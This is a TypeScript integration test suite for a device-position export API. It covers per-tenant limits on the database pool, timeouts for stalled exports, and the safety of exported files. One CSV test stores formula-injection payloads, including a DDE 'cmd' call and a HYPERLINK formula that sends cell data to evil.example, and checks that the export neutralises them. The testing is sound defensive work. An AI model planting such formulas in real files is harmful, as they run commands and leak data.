import { request as httpRequest, type IncomingMessage } from 'node:http';
import { Client } from 'pg';
import { position, storeDeviceData, storeManyPositions } from '../factories/device-data.factory';
import { northboundCredentials, trackerMessage } from '../factories/northbound.factory';
import { examplePoints, randomImei } from '../factories/telemetry.factory';
import { createFleet, type Fleet } from '../factories/tenant.factory';
import { errorEnvelope } from '../utils/api-envelope';
import { parseCsv } from '../utils/csv';
import { listeningUrl } from '../utils/listening-url';
import { createTestApp, type TestApp } from '../utils/test-app';
import { waitFor } from '../utils/wait';

const BASE = '/apidev/v1/devices';

/**
 * Positions of the device each stalled export reads: a CSV of them (some 40 MB) is far larger
 * than what the socket buffers of both ends hold, so a client that reads nothing stalls it.
 */
const LARGE_TRACK = 300_000;
const TRACK_START = '2026-04-01T00:00:00Z';
/** A window of that track small enough to read whole in a moment. */
const SMALL_WINDOW = { from: TRACK_START, to: '2026-04-01T00:01:40Z' };

/** A fleet and the device whose positions it exports. */
interface ExportingFleet extends Fleet {
  deviceId: string;
}

async function newFleet(testApp: TestApp, name: string): Promise<ExportingFleet> {
  return { ...(await createFleet(testApp, name)), deviceId: randomImei() };
}

/** An export as a raw client sees it: the head at once, the body only if asked for. */
interface OpenExport {
  status: number;
  retryAfter?: string;
  response: IncomingMessage;
  /** Resolves when the connection is gone; `complete` says whether the whole file came first. */
  closed: Promise<{ complete: boolean }>;
  destroy(): void;
}

/**
 * Starts an export and resolves once its head has arrived. The body is never read unless the
 * caller reads it: after the head, nothing more leaves the socket, as with a client that stalls.
 */
function openExport(
  url: string,
  fleet: ExportingFleet,
  query: Record<string, string> = {},
): Promise<OpenExport> {
  const search = new URLSearchParams({ format: 'csv', ...query });
  return new Promise((resolve, reject) => {
    const request = httpRequest(`${url}${BASE}/${fleet.deviceId}/positions?${search.toString()}`, {
      headers: fleet.headers,
      agent: false,
    });
    request.on('error', reject);
    request.on('response', (response) => {
      // A cut connection errors the unread response; `closed` reports it.
      response.on('error', () => undefined);
      resolve({
        status: response.statusCode ?? 0,
        retryAfter: response.headers['retry-after'],
        response,
        closed: new Promise((settle) =>
          response.once('close', () => settle({ complete: response.complete })),
        ),
        destroy: () => request.destroy(),
      });
    });
    request.end();
  });
}

async function bodyOf(open: OpenExport): Promise<string> {
  let text = '';
  open.response.setEncoding('utf8');
  for await (const chunk of open.response) text += chunk as string;
  return text;
}

/** Exports holding a connection in an open transaction, waiting for their client: stalled. */
async function stalledExports(pg: Client): Promise<number> {
  const { rows } = await pg.query<{ count: number }>(
    `SELECT count(*)::int AS count FROM pg_stat_activity
     WHERE datname = current_database() AND state = 'idle in transaction' AND query LIKE 'FETCH%'`,
  );
  return rows[0].count;
}

/** A connection of its own to the app's database, to watch the pool from outside it. */
async function observer(testApp: TestApp): Promise<Client> {
  const pg = new Client({ connectionString: testApp.config.database.url });
  await pg.connect();
  return pg;
}

const TENANT_FULL = errorEnvelope(
  'RATE_LIMITED',
  'This tenant has 2 position exports open, as many as it may; retry once one has ended',
);
const PROCESS_FULL = errorEnvelope(
  'SERVICE_UNAVAILABLE',
  'The server has as many position exports open as it allows; retry shortly',
);

describe('Exports draw from a bounded share of the database pool', () => {
  let testApp: TestApp;
  let url: string;
  let pg: Client;
  let attacker: ExportingFleet;
  let second: ExportingFleet;
  let victim: ExportingFleet;
  const opened: OpenExport[] = [];
  const open = async (fleet: ExportingFleet) => {
    const started = await openExport(url, fleet);
    opened.push(started);
    return started;
  };

  beforeAll(async () => {
    // No credential is cached: every request of the victim checks its credentials in PostgreSQL.
    testApp = await createTestApp({ env: { AUTH_CACHE_TTL: '0' } });
    url = await listeningUrl(testApp);
    pg = await observer(testApp);
    attacker = await newFleet(testApp, 'Attacker');
    second = await newFleet(testApp, 'Second');
    victim = await newFleet(testApp, 'Victim');
    for (const fleet of [attacker, second, victim]) {
      await storeManyPositions(testApp, fleet.tenantId, fleet.deviceId, LARGE_TRACK, TRACK_START);
    }
  });

  afterAll(async () => {
    opened.forEach((started) => started.destroy());
    await pg?.end();
    await testApp?.close();
  });

  it('leaves another tenant its token, device list, telemetry, /data and readiness', async () => {
    // The defaults, which this test is about.
    expect(testApp.config.database.poolSize).toBe(10);
    expect(testApp.config.exports).toMatchObject({ perProcess: 4, perTenant: 2 });

    const attacks = await Promise.all(Array.from({ length: 12 }, () => open(attacker)));
    const admitted = attacks.filter((started) => started.status === 200);
    const refused = attacks.filter((started) => started.status !== 200);
    expect(admitted).toHaveLength(2);
    expect(refused.map((started) => [started.status, started.retryAfter])).toEqual(
      Array.from({ length: 10 }, () => [429, '5']),
    );
    for (const started of refused) expect(JSON.parse(await bodyOf(started))).toEqual(TENANT_FULL);

    // Another tenant fills the process's share; then nobody's export is taken.
    expect((await Promise.all([open(second), open(second)])).map((s) => s.status)).toEqual([
      200, 200,
    ]);
    const victimExport = await open(victim);
    expect([victimExport.status, victimExport.retryAfter]).toEqual([503, '5']);
    expect(JSON.parse(await bodyOf(victimExport))).toEqual(PROCESS_FULL);

    // Four exports, stalled by clients that read nothing, each holding its connection.
    expect(
      await waitFor(
        () => stalledExports(pg),
        (count) => count === 4,
      ),
    ).toBe(4);

    // A request waiting for a pool connection fails after 5 s, and /health/ready's ping after
    // 1.5 s: a 200 here is a request that found a connection.
    await testApp.http
      .post('/apidev/v1/auth/token')
      .set({ 'X-API-Key': victim.tenant.apiKey, tenant: victim.tenant.tenant })
      .send({ username: victim.tenant.username, password: victim.tenant.password })
      .expect(200);
    await testApp.http.get(BASE).set(victim.headers).expect(200);
    const imei = randomImei();
    await testApp.http
      .post('/apidev/v1/telemetry')
      .set(victim.headers)
      .send(examplePoints(imei))
      .expect(200);
    const message = trackerMessage();
    const trackerId = message.trackerId as string;
    await testApp.http
      .post('/data')
      .auth(...northboundCredentials(victim.tenant))
      .send(message)
      .expect(200);
    await testApp.http.get('/health/ready').expect(200);
    // The workers store what was accepted.
    for (const stored of [imei, trackerId]) {
      const device = await waitFor(
        () => testApp.http.get(`${BASE}/${stored}`).set(victim.headers),
        (response) => response.status === 200,
      );
      expect(device.status).toBe(200);
    }

    // The exports held their connections all along.
    expect(await stalledExports(pg)).toBe(4);
  });
});

describe('A stalled export is cut after EXPORT_IDLE_TIMEOUT_SECONDS', () => {
  let testApp: TestApp;
  let url: string;
  let pg: Client;
  let fleet: ExportingFleet;
  const opened: OpenExport[] = [];
  const open = async (query: Record<string, string> = {}, of = fleet) => {
    const started = await openExport(url, of, query);
    opened.push(started);
    return started;
  };
  /** An export of a few rows, read whole: its status, once it has ended. */
  const smallExport = async (of = fleet) => {
    const started = await open(SMALL_WINDOW, of);
    await bodyOf(started);
    return started.status;
  };

  beforeAll(async () => {
    testApp = await createTestApp({ env: { EXPORT_IDLE_TIMEOUT_SECONDS: '3' } });
    url = await listeningUrl(testApp);
    pg = await observer(testApp);
    fleet = await newFleet(testApp, 'Stalling Fleet');
    await storeManyPositions(testApp, fleet.tenantId, fleet.deviceId, LARGE_TRACK, TRACK_START);
  });

  afterAll(async () => {
    opened.forEach((started) => started.destroy());
    await pg?.end();
    await testApp?.close();
  });

  it('cuts a client that stopped reading, and gives back its connection and its slot', async () => {
    const stalled = await Promise.all([open(), open()]);
    expect(stalled.map((started) => started.status)).toEqual([200, 200]);
    expect((await open()).status).toBe(429);
    expect(
      await waitFor(
        () => stalledExports(pg),
        (count) => count === 2,
      ),
    ).toBe(2);

    expect(
      await waitFor(
        () => stalledExports(pg),
        (count) => count === 0,
        { timeoutMs: 15_000 },
      ),
    ).toBe(0);
    // Cut, not finished: read now, each file ends short, as a broken download, never whole.
    stalled.forEach((started) => started.response.resume());
    const ends = await Promise.all(stalled.map((started) => started.closed));
    expect(ends).toEqual([{ complete: false }, { complete: false }]);
    expect(await Promise.all([smallExport(), smallExport()])).toEqual([200, 200]);
  });

  it('gives the slot back when an export ends, fails or loses its client', async () => {
    // Finished: more exports one after another than the tenant's share.
    for (let i = 0; i < 3; i++) expect(await smallExport()).toBe(200);

    // Refused for an unknown device, after the slot was taken.
    const unknown = { ...fleet, deviceId: randomImei() };
    for (let i = 0; i < 3; i++) {
      const started = await open(SMALL_WINDOW, unknown);
      expect(started.status).toBe(404);
      await bodyOf(started);
    }
    expect(await smallExport()).toBe(200);

    // Left by its client, mid-file.
    const left = await Promise.all([open(), open()]);
    expect(left.map((started) => started.status)).toEqual([200, 200]);
    left.forEach((started) => started.destroy());
    const after = await waitFor(
      () => Promise.all([smallExport(), smallExport()]),
      (statuses) => statuses.every((status) => status === 200),
    );
    expect(after).toEqual([200, 200]);
  });
});

describe('Exported files are safe to open', () => {
  let testApp: TestApp;
  let fleet: ExportingFleet;

  beforeAll(async () => {
    testApp = await createTestApp();
    fleet = await newFleet(testApp, 'Export Contents Fleet');
  });

  afterAll(async () => {
    await testApp?.close();
  });

  const exported = async (format: string, deviceId = fleet.deviceId) => {
    const response = await testApp.http
      .get(`${BASE}/${deviceId}/positions`)
      .query({ format })
      .set(fleet.headers)
      .buffer(true)
      .parse((res, done) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (text += chunk));
        res.on('end', () => done(null, text));
      })
      .expect(200);
    return response.body as string;
  };

  it('CSV: a text a spreadsheet would run as a formula starts with a quote; numbers stay', async () => {
    const addresses = [
      `=cmd|' /C calc'!A0`,
      '+1+1',
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ];
    await storeDeviceData(testApp, fleet.tenantId, {
      positions: addresses.map((address, i) =>
        position(fleet.deviceId, `2026-04-04T10:00:0${i}Z`, { address, altitude: -12.5 }),
      ),
    });
    const [header, ...rows] = parseCsv(await exported('csv'));
    expect(header).toEqual([
      'recordedAt',
      'receivedAt',
      'eventcode',
      'fix',
      'lat',
      'lon',
      'altitude',
      'speed',
      'heading',
      'satellites',
      'ignition',
      'accuracy',
      'odometer',
      'horometer',
      'address',
      'temperature',
      'battery',
      'source',
      'extra',
    ]);
    const cells = (name: string) => rows.map((row) => row[header.indexOf(name)]);
    expect(cells('address')).toEqual(addresses.map((address) => `'${address}`));
    for (const [name, value] of [
      ['lat', '-34.6037'],
      ['lon', '-58.3816'],
      ['altitude', '-12.5'],
    ]) {
      expect(cells(name)).toEqual(addresses.map(() => value));
    }
  });

  it('GPX: characters XML 1.0 forbids in a stored text become U+FFFD', async () => {
    const deviceId = randomImei();
    await storeDeviceData(testApp, fleet.tenantId, {
      positions: [position(deviceId, '2026-04-04T10:00:00Z', { eventcode: '1\u0001\u000b\uFFFF' })],
    });
    const gpx = await exported('gpx', deviceId);
    expect(gpx).not.toMatch(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u);
    expect(gpx).toContain('<type>1\uFFFD\uFFFD\uFFFD</type>');
  });
});
